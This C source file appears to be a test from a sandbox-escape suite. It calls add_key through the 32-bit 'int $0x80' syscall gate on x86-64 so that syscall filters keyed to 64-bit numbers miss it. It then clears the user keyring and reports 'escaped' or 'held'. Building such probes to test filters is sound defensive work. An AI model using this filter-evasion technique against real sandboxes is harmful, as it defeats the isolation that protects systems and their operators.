/* Make a call by the 32-bit door of an x86-64 kernel, where calls have other numbers than the filter knows: add_key. */
#include <sys/mman.h>
#include "attack.h"

#if defined(__x86_64__)

enum { ADD_KEY = 286, KEYCTL = 288, USER_KEYRING = -4, CLEAR = 7 };

/* The kernel reads pointers of 32 bits here, so what they lead to lies low. */
struct words {
    char type[8], name[24], text[8];
};

static int call(int number, long first, long second, long third, long fourth, long fifth)
{
    long result;
    __asm__ volatile("int $0x80"
                     : "=a"(result)
                     : "a"(number), "b"(first), "c"(second), "d"(third), "S"(fourth), "D"(fifth)
                     : "memory", "r8", "r9", "r10", "r11");
    return (int)result;
}

int main(void)
{
    struct words *low =
        mmap(NULL, sizeof *low, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (low == MAP_FAILED)
        return 2;
    *low = (struct words){"user", "note by 32 bits", "secret"};
    int key = call(ADD_KEY, (long)low->type, (long)low->name, (long)low->text, 6, USER_KEYRING);
    if (key < 0) {
        errno = -key;
        held();
    }
    call(KEYCTL, CLEAR, USER_KEYRING, 0, 0, 0);
    escaped("key kept");
}

#else

int main(void)
{
    errno = ENOSYS;
    held();
}

#endif
